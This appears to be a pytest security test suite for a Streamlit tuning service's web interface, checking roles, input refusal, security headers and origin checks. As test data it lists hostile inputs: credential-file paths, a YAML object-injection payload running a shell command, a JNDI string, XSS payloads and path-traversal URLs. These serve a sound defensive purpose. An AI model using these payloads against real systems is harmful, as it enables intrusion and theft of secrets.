"""An attack list: who may not, does not; what others wrote is shown, never understood; nobody else's page gets in."""

from __future__ import annotations

import ast
import http.client
import inspect
import subprocess
import sys
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import pytest
from recorded import record
from screens import ROOT, Screens, button, control, embedded, environment, page, serving, texts
from streamlit.testing.v1 import AppTest

from storage import studies
from storage.database import Database
from tuner import service
from tuner.errors import TightfitError
from ui import acting
from ui.forms.check import check
from ui.forms.draft import EDITOR
from ui.parts.new_study import START

AUTH = {"redirect_uri": "https://tuner.example.org/oauth2callback", "cookie_secret": "s" * 40, "client_id": "tuner"}
SECRETS = {"auth": AUTH, "roles": {"editors": ["ada@example.org"], "readers": ["*@example.org"]}}
READER = {"is_logged_in": True, "email": "bob@example.org"}
EDITOR_PERSON = {"is_logged_in": True, "email": "ada@example.org"}
STRANGER = {"is_logged_in": True, "email": "eve@elsewhere.org"}
NAMES = sorted(file.stem for file in (ROOT / "ui" / "screens").glob("[a-z]*.py"))
ACTIONS = [
    name
    for name, value in inspect.getmembers(acting, inspect.isfunction)
    if value.__module__ == "ui.acting" and name[0] != "_"
]


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Database]:
    with embedded(tmp_path, monkeypatch) as database:
        yield database


def waiting(store: Database, name: str = "waiting") -> None:
    service.submit(START.replace("study: my-study", f"study: {name}"))


# who may not


def act(name: str, argument: str) -> None:
    """A page that does what no button offers; it is the script of an AppTest."""
    from ui import acting
    from ui.guard import guarded

    with guarded():
        getattr(acting, name)(argument)


PERSONS = {"reader": READER, "stranger": STRANGER, "out": {"is_logged_in": False}, "nobody": {}}
OUTSIDERS = {name: person for name, person in PERSONS.items() if name != "reader"}


@pytest.mark.parametrize("person", PERSONS)
def test_an_action_is_refused_by_the_server_not_by_a_missing_button(store: Database, person: str) -> None:
    waiting(store)
    assert {"pause", "resume", "cancel", "delete", "submit", "release"} <= set(ACTIONS)
    for name in ACTIONS:
        at = AppTest.from_function(act, args=(name, START if name == "submit" else "waiting"), default_timeout=30)
        for key, value in SECRETS.items():
            at.secrets[key] = value
        at.user = dict(PERSONS[person])
        at.run()
        assert "You may look at these screens, not change anything" in texts(at).replace("\\", ""), name
    assert [(each.name, each.status) for each in studies.list_all(store)] == [("waiting", "queued")]


def test_nothing_but_the_one_door_changes_anything() -> None:
    """No file of the screens calls the service, the queue or the interface past the door that asks who it is."""
    changing = {
        "pause",
        "resume",
        "cancel",
        "delete",
        "submit",
        "release_worker",
        "rebuild_optuna",
        "work",
        "run",
        "migrate",
    }
    found = []
    for file in (ROOT / "ui").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id in ("service", "api", "queue")
            ):
                found += [(file.name, node.attr)] if node.attr in changing else []
            if isinstance(node, ast.ImportFrom) and node.module in ("tuner.service", "tuner.api", "storage.queue"):
                found += [(file.name, each.name) for each in node.names if each.name in changing]
    assert found
    assert {name for name, _ in found} == {"acting.py"}


@pytest.mark.parametrize("person", OUTSIDERS)
def test_who_is_not_let_in_sees_no_study(store: Database, person: str) -> None:
    record(store, "llama-dev", study="secret plans", most=3)
    for name in NAMES:
        at = page(name, secrets=SECRETS, user=OUTSIDERS[person], study="secret plans", trial="0")
        assert "secret plans" not in texts(at), name
        assert not at.metric
        assert [each.label for each in at.button] in (["Sign in"], ["Sign out", "Sign in"])


def test_a_reader_sees_the_studies_and_no_way_to_change_them(store: Database) -> None:
    record(store, "llama-dev", study="plans", most=3)
    waiting(store)
    for name in NAMES:
        at = page(name, secrets=SECRETS, user=READER, study="plans", trial="0")
        assert not at.get("menu_button"), name
        assert {"Submit", "Put back into service"}.isdisjoint(each.label for each in at.button), name


def test_an_editor_has_them_and_read_only_takes_them_away(store: Database) -> None:
    waiting(store)
    editor = page("studies", secrets=SECRETS, user=EDITOR_PERSON)
    assert editor.get("menu_button")
    frozen = page("studies", secrets={**SECRETS, "tuner_read_only": True}, user=EDITOR_PERSON)
    assert not frozen.get("menu_button")
    assert not page("studies", secrets={"tuner_read_only": True}).get("menu_button")


def test_roles_that_were_spoilt_while_it_runs_let_nobody_in(store: Database) -> None:
    waiting(store)
    at = page("studies", secrets={"auth": AUTH, "roles": {"editors": "ada@example.org"}}, user=EDITOR_PERSON)
    assert "waiting" not in texts(at)


# what is typed


OBJECTIVES = [
    "os:system",
    "subprocess:Popen",
    "builtins:eval",
    "../evil:Objective",
    "/tmp/evil.py:X",
    "evil",
    "causal_lm:x",
    "a.b:c()",
    "script",
]
PATHS = ["/etc/passwd", "../../etc/passwd", "~/.ssh/id_rsa", "/proc/self/environ", "//etc//shadow", "data/../../../etc"]


def test_an_objective_typed_by_hand_is_refused(store: Database) -> None:
    at = page("new_study")
    assert control(at, "form.objective.kind").options == ["causal_lm", "image_classifier"]
    for kind in OBJECTIVES:
        text = START.replace("kind: causal_lm", f"kind: {kind!r}")
        control(at, EDITOR).set_value(text).run()
        assert button(at, "Submit").disabled, kind
        with pytest.raises(TightfitError):
            acting.submit(text)
    assert studies.list_all(store) == ()


@pytest.mark.parametrize("where", ["data: {path: stdlib", "tokenizer: {train: {vocab_size: 4096}}"])
def test_a_path_typed_by_hand_is_refused(store: Database, where: str) -> None:
    said = where.partition(":")[0]
    for path in PATHS:
        text = START.replace(where, f"data: {{path: {path!r}" if said == "data" else f"tokenizer: {path!r}")
        assert text != START
        assert check(text).refusal is not None, path
        with pytest.raises(TightfitError, match=r"not on this worker's list|no tokenizer"):
            acting.submit(text)
    assert studies.list_all(store) == ()


@pytest.mark.parametrize("text", ["/etc/passwd", str(ROOT / "examples" / "quickstart.yaml"), "quickstart.yaml"])
def test_a_typed_name_of_a_file_is_never_opened(store: Database, text: str) -> None:
    at = page("new_study")
    control(at, EDITOR).set_value(text).run()
    assert button(at, "Submit").disabled
    assert "root:" not in texts(at)
    assert not check(text).is_good


@pytest.mark.parametrize(
    "text",
    [
        "study: !!python/object/apply:os.system ['touch /tmp/owned']",
        "study: &a x\nobjective: *a",
        "{{ 7 * 7 }}: ${jndi:ldap://evil}",
        "study: x\n" + "a: {" * 200,
        "study: x\nsearch: {micro_batch_size: [" + "1," * 30_000 + "]}",
        "\x00\x01\ufffe",
        "study: '<script>alert(1)</script>'\nobjective: {kind: '<img src=x onerror=alert(1)>'}",
    ],
)
def test_nothing_typed_is_evaluated_and_nothing_breaks_the_page(store: Database, text: str) -> None:
    at = page("new_study")
    control(at, EDITOR).set_value(text).run()
    assert not at.exception
    assert button(at, "Submit").disabled
    assert all(not each.allow_html for each in at.markdown)


# who is somebody else


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Screens]:
    folder = tmp_path_factory.mktemp("served")
    with serving(environment(folder)) as made:
        yield made


@dataclass(frozen=True, kw_only=True)
class Answer:
    status: int
    headers: Mapping[str, str]
    body: bytes


def ask(server: Screens, method: str, path: str, headers: Mapping[str, str]) -> Answer:
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=20)
    connection.putrequest(method, path, skip_host="Host" in headers)
    for name, value in headers.items():
        connection.putheader(name, value)
    connection.endheaders()
    with closing(connection), connection.getresponse() as answer:
        body = b"" if answer.status == 101 else answer.read()
        return Answer(
            status=answer.status, headers={key.lower(): value for key, value in answer.getheaders()}, body=body
        )


def test_every_answer_carries_its_headers(server: Screens) -> None:
    for path in ("/", "/study?study=x", "/_stcore/health", "/static/none.js"):
        answer = ask(server, "GET", path, {})
        policy = answer.headers["content-security-policy"]
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in policy
        assert "default-src 'self'" in policy
        script = next(part for part in policy.split("; ") if part.startswith("script-src"))
        assert "unsafe-inline" not in script
        assert "'unsafe-eval'" not in script
        assert "http" not in policy


UPGRADE = {
    "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol": "streamlit",
}  # fmt: skip


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", "http://localhost:1", "https://127.0.0.1.evil.example", None]
)
def test_a_foreign_page_gets_no_session(server: Screens, origin: str | None) -> None:
    headers = UPGRADE | ({"Origin": origin} if origin is not None else {})
    assert ask(server, "GET", "/_stcore/stream", headers).status == 403


def test_our_own_page_gets_one(server: Screens) -> None:
    answer = ask(server, "GET", "/_stcore/stream", UPGRADE | {"Origin": server.address})
    assert answer.status == 101


@pytest.mark.parametrize("host", ["evil.example", "localhost.evil.example:8501", "", "127.0.0.1@evil.example"])
def test_a_foreign_name_that_points_here_gets_nothing(server: Screens, host: str) -> None:
    for headers in ({"Host": host}, UPGRADE | {"Host": host, "Origin": f"http://{host}"}):
        assert ask(server, "GET", "/_stcore/stream" if "Upgrade" in headers else "/", headers).status in (400, 403)


def test_a_foreign_page_cannot_post_and_unused_doors_are_closed(server: Screens) -> None:
    assert ask(server, "POST", "/", {"Origin": "http://evil.example"}).status == 403
    assert ask(server, "POST", "/", {}).status == 403
    for path in (
        "/_stcore/metrics",
        "/_stcore/agent/openapi.json",
        "/_stcore/upload_file/a/b",
        "/_stcore/script-health-check",
    ):
        assert ask(server, "GET", path, {}).status == 404, path


def test_no_path_leads_out_of_the_static_files(server: Screens) -> None:
    for path in ("/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/app/static/x"):
        answer = ask(server, "GET", path, {})
        assert b"root:" not in answer.body


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (["--host", "0.0.0.0"], "--allow-unauthenticated"),
        (["--host", "::"], "--allow-unauthenticated"),
        (["--secrets", "/none.toml"], "cannot be read"),
    ],
)
def test_it_does_not_listen_for_others_unasked(tmp_path: Path, options: list[str], words: str) -> None:
    command = [sys.executable, "-m", "tuner", "ui", "--port", "0", *options]
    done = subprocess.run(command, env=environment(tmp_path), capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert done.returncode in (1, 2)
    assert words in done.stderr
    assert "Traceback" not in done.stderr


def test_secrets_that_let_nobody_in_are_refused_and_never_shown(tmp_path: Path) -> None:
    file = tmp_path / "secrets.toml"
    file.write_text(
        '[auth]\nredirect_uri = "http://x/oauth2callback"\ncookie_secret = "hunter2-hunter2"\nclient_id = "x"\n'
    )
    command = [sys.executable, "-m", "tuner", "ui", "--port", "0", "--secrets", str(file)]
    done = subprocess.run(command, env=environment(tmp_path), capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert done.returncode == 2
    assert "cookie_secret is short" in done.stderr
    assert "hunter2" not in done.stderr


def test_what_goes_wrong_is_not_told_with_passwords_or_tracebacks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TUNER_DATABASE_URL", "postgresql://tuner:hunter2@127.0.0.1:1/tuner")
    monkeypatch.setenv("TUNER_DATA_DIR", str(tmp_path))
    for name in NAMES:
        at = page(name, study="x", trial="0")
        assert "The store cannot be reached." in texts(at)
        assert "hunter2" not in texts(at)
        assert "Traceback" not in texts(at)
